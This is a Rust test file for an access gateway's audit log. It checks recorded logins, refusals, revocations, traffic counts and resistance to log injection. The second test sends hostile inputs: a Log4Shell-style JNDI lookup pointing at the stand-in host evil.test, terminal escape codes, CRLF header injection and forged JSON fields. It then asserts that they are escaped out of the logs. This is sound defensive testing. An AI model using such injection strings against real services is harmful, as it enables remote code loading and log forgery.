//! What the gateway writes down: each deed once, and every admitted request counted (security L4).

use crate::browser::Browser;
use crate::daemon::Place;
use crate::office::Office;
use narthex_model::{AccessRecord, Action, MasterKey, TrafficCount, Verdict};
use narthex_store::{
    Direction, Intact, RecordFilter, RecordedChange, SqliteStore, Store, TrafficFilter,
};
use serde_json::{Value, json};
use std::sync::Arc;

const SHOP: &str = "shop.localhost";
const VAULT: &str = "vault.localhost";
const OPEN: &str = "open.localhost";

/// Everything that a stopped gateway wrote down, the oldest first.
async fn written(place: &Place) -> (Vec<AccessRecord>, Vec<RecordedChange>, Vec<TrafficCount>) {
    let key = std::fs::read_to_string(place.file("data/master.key")).unwrap();
    let key = Arc::new(MasterKey::parse(key.trim()).unwrap());
    let store = SqliteStore::open(&place.file("data/narthex.db"), key).await.unwrap();
    assert!(matches!(store.verify_audit().await.unwrap(), Intact::Yes(_)));
    let filter =
        RecordFilter { direction: Direction::Asc, limit: 1_000, ..RecordFilter::default() };
    let records = store.records(&filter).await.unwrap();
    let mut changes = store.recorded_changes(1_000, 0).await.unwrap().items;
    changes.reverse();
    let traffic = store.traffic(&TrafficFilter::default()).await.unwrap();
    store.close().await;
    (records, changes, traffic)
}

fn ray(answer: &crate::wire::Answer) -> String {
    answer.headers["cf-ray"].to_str().unwrap().split('-').next().unwrap().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn l4_every_deed_is_written_down_once_and_every_request_is_counted() {
    let mut office = Office::open(&[SHOP], |_| json!({})).await;
    let access = format!("/accounts/{}/access", office.place.account().await);
    let vault = json!({
        "type": "self_hosted", "name": "Vault", "domain": VAULT,
        "policies": [{"precedence": 1, "name": "boss", "decision": "allow",
                      "include": [{"email": {"email": "boss@example.com"}}]}],
    });
    office.place.api("POST", &format!("{access}/apps"), &vault).await;
    office.place.open_to_all(OPEN).await; // a bypass is configured

    let (mut kim, _) = office.log_in(SHOP, "/first").await;
    for _ in 0..3 {
        assert_eq!(kim.open(SHOP, "/again").await.status, 200);
    }
    let mut wire = office.place.wire().open(OPEN).await.unwrap();
    for _ in 0..5 {
        assert_eq!(wire.ask("GET", "/", &[], "").await.unwrap().status, 200);
    }
    assert_eq!(kim.open(VAULT, "/").await.status, 403, "logged in, and not let in");
    let robot = [
        ("cf-access-client-id", "e367826f93b8d71185e03fe518aff3b4.access"),
        ("cf-access-client-secret", "wrong"),
        ("accept", "application/json"),
    ];
    let mut wire = office.place.wire().open(SHOP).await.unwrap();
    let refused = wire.ask("GET", "/", &robot, "").await.unwrap();
    assert!(matches!(refused.status, 401 | 403), "{refused:?}");
    let kim_only = json!({"email": "kim@example.com"});
    office.place.api("POST", &format!("{access}/organizations/revoke_user"), &kim_only).await;
    office.place.api("POST", &format!("{access}/keys/rotate"), &Value::Null).await;
    drop(wire);
    let place = office.stop();

    let (mut records, changes, traffic) = written(&place).await;
    // That of a revocation is durable before its answer, so it may come before those that wait for their batch.
    records.sort_by_key(|record| record.action == Action::Revoke);
    let told: Vec<_> =
        records.iter().map(|record| (record.action, record.verdict, &*record.app_domain)).collect();
    let want = [
        (Action::Login, Verdict::Allowed, SHOP),
        (Action::FirstUse, Verdict::Allowed, SHOP),
        (Action::Login, Verdict::Refused, VAULT),
        (Action::Request, Verdict::Refused, SHOP),
        (Action::Revoke, Verdict::Allowed, ""),
    ];
    assert_eq!(told, want, "{records:#?}");
    let kims = [&records[0], &records[1], &records[2], &records[4]];
    for record in kims {
        let email = record.user_email.as_ref().map(|email| email.as_str());
        assert_eq!(email, Some("kim@example.com"), "{record:?}");
    }
    assert!(records[0].policy.is_some() && records[0].rule.contains("email_domain"));
    assert!(records[2].policy.is_none() || !records[2].rule.is_empty(), "{:?}", records[2]);
    assert_eq!(records[3].ray_id.as_str(), ray(&refused));
    assert!(records.iter().all(|record| !record.reason.is_empty()));

    let asked: Vec<_> = changes
        .iter()
        .filter_map(|change| {
            let path = change.record.summary["path"].as_str()?;
            assert!(change.record.ray_id.is_some() && change.record.ip_address.is_some());
            assert!(change.record.actor.starts_with("bootstrap"), "{:?}", change.record);
            Some(path.rsplit("/access/").next().unwrap().to_owned())
        })
        .collect();
    assert_eq!(asked, ["identity_providers", "apps", "apps", "apps", "keys/rotate"]);

    let count = |of_nobody: bool| -> u64 {
        traffic
            .iter()
            .filter(|count| count.key.caller.is_empty() == of_nobody)
            .map(|count| count.requests)
            .sum()
    };
    assert_eq!((count(false), count(true)), (4, 5), "{traffic:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn l1_hostile_text_makes_one_escaped_line_and_one_record() {
    let mut office = Office::open(&[SHOP], |_| json!({})).await;
    let evil = "\" }[31m ${jndi:ldap://evil.test/a} {\"forged\":1}";
    let mut browser = Browser::new(office.place.wire());
    let asked = browser.open(SHOP, "/").await;
    let page =
        browser.send(&asked, "email", &format!("x{evil}\u{1b}\r\nforged: 1@example.com")).await;
    assert_eq!(page.status, 400, "{}", page.text);
    let fields = [
        ("cf-access-client-id", "e367826f93b8d71185e03fe518aff3b4.access"),
        ("cf-access-client-secret", "wrong-secret-of-a-robot"),
        ("user-agent", evil),
        ("x-hostile", evil),
        ("accept", "application/json"),
    ];
    let long = "a".repeat(8_000);
    let mut rays = Vec::new();
    for (path, recorded) in [
        (format!("/{long}%0d%0a%1b%22$%7bjndi:x%7d"), false), // no path at all
        (format!("/{long}%22$%7bjndi:x%7d"), true),
    ] {
        let mut wire = office.place.wire().open(SHOP).await.unwrap();
        let refused = wire.ask("GET", &path, &fields, "").await.unwrap();
        assert!(matches!(refused.status, 400 | 401 | 403), "{refused:?}");
        rays.push((ray(&refused), recorded));
    }
    office.log_in(SHOP, "/").await; // a well-behaved person notices nothing
    let (place, said) = office.stop_and_tell();
    for line in said.lines().filter(|line| !line.starts_with("narthexd: ")) {
        let value: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("{line}"));
        assert!(value["level"].is_string() && value.get("forged").is_none(), "{line}");
        assert!(line.len() < 4_096 && !line.contains('\u{1b}'), "{line}");
        assert!(!line.contains("jndi") && !line.contains("wrong-secret"), "{line}");
    }
    let (records, _, _) = written(&place).await;
    for (ray, recorded) in rays {
        assert_eq!(said.lines().filter(|line| line.contains(&ray)).count(), 1, "{said}");
        let of_it = records.iter().filter(|record| record.ray_id.as_str() == ray).count();
        assert_eq!(of_it, usize::from(recorded), "{records:#?}");
    }
    let text = serde_json::to_string(&records).unwrap();
    assert!(!text.contains("jndi") && !text.contains("forged") && text.len() < 4_096, "{text}");
}
